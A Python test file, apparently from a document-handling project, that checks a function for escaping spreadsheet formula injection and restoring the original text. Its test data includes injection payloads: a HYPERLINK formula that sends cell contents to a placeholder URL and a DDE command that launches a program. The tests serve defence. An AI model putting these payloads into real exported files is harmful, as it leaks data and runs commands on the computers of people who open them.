"""No exported cell is a live formula, and the escape is exactly reversible."""

from __future__ import annotations

from hypothesis import given
from hypothesis import strategies as st

from secrecy_desk.core import cells

ATTACKS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("http://x/?"&A1,"x")',
    "=cmd|'/c calc'!A0",
    "＝1+1",
]


def test_formula_starts_are_neutralised() -> None:
    for text in ATTACKS:
        out = cells.neutralise(text)
        assert out.startswith("'"), text
        assert cells.restore(out) == text


def test_plain_text_is_left_alone() -> None:
    for text in ["总装图", "XX-2026-031", "a=b", "'quoted", "", "1+1"]:
        assert cells.neutralise(text) == text


@given(st.text(max_size=12))
def test_restore_inverts_neutralise(text: str) -> None:
    out = cells.neutralise(text)
    assert cells.restore(out) == text
    assert not cells.is_formula_like(out)
